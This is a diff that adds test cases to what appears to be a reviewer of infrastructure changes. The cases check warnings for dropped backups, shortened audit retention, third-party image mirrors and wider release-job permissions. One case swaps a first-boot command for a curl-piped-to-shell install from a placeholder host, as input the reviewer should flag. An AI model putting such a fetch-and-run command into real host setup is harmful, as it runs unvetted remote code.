@@ -120,6 +120,61 @@ export const reviewPairs: readonly ReviewPair[] = [
     says: [/^database-goes-back$/, /databases\/general.*16/],
   },
   {
+    name: 'a disk of a host is backed up no more',
+    edits: [
+      environment(
+        'sizeGiB: 800, backup: weekly',
+        "sizeGiB: 800, backup: { none: 'Sister communities have it all, too' }",
+      ),
+    ],
+    says: [/^weaker-protection$/, /mirror-a-archives is no longer backed up/],
+  },
+  {
+    name: 'a disk of a host shrinks',
+    edits: [environment('sizeGiB: 800', 'sizeGiB: 400')],
+    says: [/^refused-change$/, /mirror-a-archives cannot shrink from 800 to 400 GiB/],
+  },
+  {
+    name: 'a host does something else at its first boot',
+    edits: [environment('systemctl enable --now rsync', 'curl -fsS https://get.example/install | sh')],
+    says: [/^host-settings$/, /something else at the first boot/],
+  },
+  {
+    name: 'GitLab loses a store of repositories',
+    edits: [environment('shards: 3,', 'shards: 2,')],
+    says: [/^weaker-cluster$/, /has no store shard-3/],
+  },
+  {
+    name: 'audit logs are kept for a week',
+    edits: [environment('audit: 90', 'audit: 7')],
+    says: [/^weaker-cluster$/, /logs of audit for 7 days in place of 90/],
+  },
+  {
+    name: 'machines are bought on the spot market',
+    edits: [
+      environment(
+        'size: { minimum: 6, maximum: 15 }',
+        "size: { minimum: 6, maximum: 15 }\n      capacity: { spot: 'Most services have two pods, and machines come back' }",
+      ),
+    ],
+    says: [/^weaker-cluster$/, /are bought on the spot market/],
+  },
+  {
+    name: 'images come by the mirror of somebody else',
+    edits: [environment('quay.io/commons-example/docker-mirror', 'quay.io/somebody-else/docker-mirror')],
+    says: [/^other-image$/, /docker.io come from quay.io\/somebody-else/],
+  },
+  {
+    name: 'jobs with the secrets of releases run any image',
+    edits: [
+      environment(
+        'pool: ci-releases\n      jobs: 4\n      purpose: { releases: [registry.gitlab.commons.example/infrastructure/release-images/*] }',
+        'pool: ci-releases\n      jobs: 4\n      purpose: { releases: [registry.gitlab.commons.example/*] }',
+      ),
+    ],
+    says: [/^weaker-cluster$/, /lets jobs run registry.gitlab.commons.example\/\*/],
+  },
+  {
     name: 'a database shrinks',
     edits: [tenant('forum', 'storageGiB: 60', 'storageGiB: 30')],
     says: [/^refused-change$/, /forum.*(storage|walStorage)/],
